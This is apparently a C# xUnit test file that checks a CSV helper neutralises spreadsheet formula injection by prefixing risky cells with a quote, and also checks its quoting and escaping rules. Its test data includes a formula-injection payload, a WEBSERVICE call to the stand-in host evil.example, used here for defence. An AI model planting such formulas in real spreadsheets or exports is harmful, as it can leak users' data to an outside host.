using Sacoche.ServiceDefaults.Csv;
using Xunit;

namespace Sacoche.ServiceDefaults.Tests;

/// <summary>Cells a spreadsheet would evaluate as formulas get a leading quote; everything else is written as given.</summary>
public sealed class CsvCellsTests
{
    [Theory]
    [InlineData("=WEBSERVICE(\"https://evil.example/\")", "'=WEBSERVICE(\"https://evil.example/\")")]
    [InlineData("+33 6 12", "'+33 6 12")]
    [InlineData("-2+3", "'-2+3")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("\tcmd", "'\tcmd")]
    [InlineData("\rcmd", "'\rcmd")]
    [InlineData("Jean-Marc", "Jean-Marc")]
    [InlineData("D'Artagnan", "D'Artagnan")]
    [InlineData("a=b", "a=b")]
    [InlineData("", "")]
    [InlineData(null, "")]
    public void Neutralize(string? value, string expected) => Assert.Equal(expected, CsvCells.Neutralize(value));

    [Theory]
    [InlineData("Dupont", "Dupont")]
    [InlineData("Dupont; Jean", "\"Dupont; Jean\"")]
    [InlineData("dit \"Jo\"", "\"dit \"\"Jo\"\"\"")]
    [InlineData("=1;2", "\"'=1;2\"")]
    [InlineData("\r\n", "\"'\r\n\"")]
    public void Escape_quotes_after_neutralising(string value, string expected) => Assert.Equal(expected, CsvCells.Escape(value));
}
